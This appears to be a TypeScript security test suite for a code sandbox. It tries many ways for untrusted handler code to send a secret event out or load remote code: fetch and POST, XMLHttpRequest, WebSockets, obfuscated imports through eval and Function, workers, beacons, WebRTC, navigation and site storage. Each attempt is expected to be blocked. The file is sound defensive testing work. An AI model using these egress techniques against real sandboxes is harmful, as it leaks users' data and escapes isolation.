import { attack } from './support/attack.ts';
import type { Attack } from './support/attack.ts';
import { attempts } from './support/attempts.ts';

const secret = { event: '{"secret":"of the reader"}', timeoutMs: 5_000 };
const egress = (
  number: number,
  name: string,
  list: Record<string, string>,
  more: Partial<Attack> = {},
): void => {
  attack(number, name, { code: attempts(list), request: secret, ends: 'response', ...more });
};
/** All of the attempts meet a name that is not there. */
const absent = (names: string[]): Pick<Attack, 'answers'> => ({
  answers: Object.fromEntries(names.map((name) => [name, 'ReferenceError'])),
});

egress(1, 'the event as the query of a fetch', {
  get: 'await fetch(url)',
  post: "await fetch(url, { method: 'POST', body: JSON.stringify(event) })",
  anywhere: 'await globalThis.fetch.call(undefined, new URL(url))',
});

egress(2, 'requests without CORS, that outlive the page, by XMLHttpRequest', {
  noCors: "await fetch(url, { mode: 'no-cors' })",
  keepalive: "await fetch(new Request(url, { method: 'POST', keepalive: true, body: 'x' }))",
  cache: "for (const cache of ['reload', 'force-cache', 'no-store']) await fetch(url, { cache })",
  xhr: "const x = new XMLHttpRequest(); x.open('GET', url); x.send();",
  syncXhr: "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send();",
});

egress(
  3,
  'sockets and event streams',
  {
    webSocket: "new WebSocket('ws://' + host)",
    eventSource: 'new EventSource(url)',
    webSocketStream: "await new WebSocketStream('ws://' + host).opened",
    webTransport: "await new WebTransport('https://' + host).ready",
    socket: 'await new TCPSocket("127.0.0.1", 1).opened',
  },
  absent(['webSocket', 'eventSource', 'webSocketStream', 'webTransport', 'socket']),
);

egress(4, 'scripts and modules from elsewhere', {
  importScripts: 'importScripts(url)',
  import: 'await import(url)',
  importInEval: "await (0, eval)('import(\"' + url + '\")')",
  importInFunction: "await Function('return import(\"' + url + '\")')()",
  importInAsyncFunction: "await (async () => {}).constructor('u', 'return await import(u)')(url)",
  importInTimer: "setTimeout('import(\"' + url + '\")')",
  importInBlob: `
    const text = 'import ' + JSON.stringify(url) + '; export * from ' + JSON.stringify(url);
    const blob = new Blob([text], { type: 'text/javascript' });
    await (0, eval)('import(' + JSON.stringify(URL.createObjectURL(blob)) + ')')`,
});

attack(68, 'a static import from elsewhere', {
  code: "import 'http://CANARY/x.js'; export * from 'https://CANARY/y.js'; export const handler = () => 1;",
  ends: 'init-error',
});

attack(69, 'a static import from elsewhere, required by CommonJS', {
  code: "require('http://CANARY/x.js'); exports.handler = async () => 1;",
  ends: 'init-error',
});

egress(5, 'modules by data addresses, which fetch on their own', {
  data: "await (0, eval)('import(\"data:text/javascript,fetch(%22' + url + '%22)\")')",
  dataOfData: "await import('data:text/javascript,import(\"' + url + '\")')",
});

egress(
  6,
  'a nested worker that fetches',
  {
    blob: "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + url + '\")'])))",
    data: "new Worker('data:text/javascript,fetch(\"' + url + '\")')",
    remote: 'new Worker(url)',
    module: "new Worker(url, { type: 'module' })",
    shared: 'new SharedWorker(url)',
  },
  absent(['blob', 'data', 'remote', 'module', 'shared']),
);

egress(7, 'fonts, styles and pictures from elsewhere', {
  font: "await new FontFace('x', 'url(' + url + ')').load()",
  style: "await new CSSStyleSheet().replace('@import url(' + url + ')')",
  image: 'new Image().src = url',
  bitmap: 'await createImageBitmap(await (await fetch(url)).blob())',
  decoder: "new ImageDecoder({ data: (await fetch(url)).body, type: 'image/png' })",
});

egress(8, 'a navigation of the worker or of the page', {
  href: 'location.href = url',
  assign: 'location.assign(url)',
  bare: 'location = url',
  open: 'open(url)',
  client: 'await clients.openWindow(url)',
});

attack(9, 'the page by the function constructor, self.top and opener', {
  code: `export const handler = async () => {
    const root = this?.constructor?.constructor ?? Function;
    return ['parent', 'top', 'opener', 'window', 'frames', 'document', 'frameElement', 'self']
      .filter((name) => root('return typeof ' + name)() !== 'undefined');
  };`,
  ends: 'response',
  answers: [],
});

attack(10, 'messages that ask the frame to go elsewhere', {
  code: `export const handler = async () => {
    const said = { type: 'navigate', url: 'http://CANARY/', html: '<img src="http://CANARY/">' };
    const ways = [globalThis.postMessage, Object.getPrototypeOf(globalThis).postMessage];
    for (let i = 0; i < 50; i++) for (const way of ways) way?.call(globalThis, said);
    const { port1, port2 } = new MessageChannel();
    for (let i = 0; i < 50; i++) port1.postMessage(said, [new MessageChannel().port1]);
    return ways.map((way) => typeof way);
  };`,
  ends: 'response',
  answers: ['undefined', 'undefined'],
});

egress(11, 'hints that make a browser look a name up', {
  link: "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: url }))",
  html: "new DOMParser().parseFromString('<link rel=preconnect href=' + url + '>', 'text/html')",
  headers: "new Response('', { headers: { link: '<' + url + '>; rel=preconnect' } })",
  urlPattern: 'new URL(url), new URLPattern(url)',
});

egress(12, 'beacons, peers, notifications and pushes', {
  beacon: 'navigator.sendBeacon(url)',
  peer: "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }] }); p.createDataChannel('x'); await p.setLocalDescription()",
  notification: "new Notification('x', { icon: url })",
  push: 'await navigator.serviceWorker.ready',
  register: 'await navigator.serviceWorker.register(url)',
  fetchLater: 'fetchLater(url)',
  backgroundFetch: "await registration.backgroundFetch.fetch('x', [url])",
});

attack(13, 'storage and cookies of the site', {
  code: `export const handler = async () => {
    const names = ['localStorage', 'sessionStorage', 'indexedDB', 'cookieStore', 'caches'];
    const globals = names.map((name) => typeof globalThis[name]);
    const bits = ['storage', 'storageBuckets', 'locks', 'credentials'].map((name) => typeof navigator[name]);
    return [...globals, ...bits];
  };`,
  ends: 'response',
  answers: Array<string>(9).fill('undefined'),
});

attack(14, "broadcasts in the site's name", {
  code: `export const handler = async () => {
    const channel = new BroadcastChannel('playground');
    channel.postMessage({ type: 'sandbox-hello' });
  };`,
  ends: 'function-error',
  errorType: 'ReferenceError',
});

attack(15, 'a cache that would outlive the run', {
  code: `export const handler = async () => {
    const cache = await caches.open('x');
    await cache.put('http://CANARY/', new Response('kept'));
  };`,
  ends: 'function-error',
  errorType: 'ReferenceError',
});
